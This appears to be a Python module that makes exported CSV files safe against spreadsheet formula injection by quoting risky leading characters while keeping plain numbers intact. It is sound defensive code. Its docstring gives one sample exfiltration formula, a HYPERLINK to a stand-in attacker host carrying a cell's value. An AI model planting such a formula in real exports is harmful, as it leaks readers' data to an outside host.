"""CSV files that are safe to open in a spreadsheet (no formula injection).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some also after a
leading tab or carriage return) as a formula: a service name or a report text such as
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would then send data away or mislead the
reader. Every CSV file Harbour writes goes through :func:`writer` or :func:`dict_writer`, which
prefix such a cell with a single quote (OWASP's advice), so it is shown as the text it is.

Numbers are data, not formulas: a cell that is a plain number (``-3``, ``-76.4860``,
``+1.5``, ``1e-3``) is written unchanged, so negative counts and longitudes stay numbers. A
phone number such as ``+1 613 555 0100`` is not a plain number and is prefixed. A cell that
already starts with a quote is prefixed too, so that :func:`unquote` gives back exactly what
was written (HSDS export, then import, changes nothing).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?$")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet will show it as text: a quote before a formula's first
    character (and before a leading quote); numbers and other values unchanged."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(TRIGGERS) and PLAIN_NUMBER.match(value):
        return value
    if value.startswith((*TRIGGERS, "'")):
        return "'" + value
    return value


def unquote(value: str) -> str:
    """The inverse of :func:`neutralise` for a cell read back (HSDS import)."""
    if value.startswith("'") and value[1:].startswith((*TRIGGERS, "'")):
        return value[1:]
    return value


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, fh: Any, *args: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, *args, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose values are neutralised (the header is Harbour's own)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: neutralise(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def writer(fh: Any, *args: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(fh, *args, **kwargs)


def dict_writer(fh: Any, fieldnames: Any, *args: Any, **kwargs: Any) -> SafeDictWriter:
    return SafeDictWriter(fh, fieldnames, *args, **kwargs)
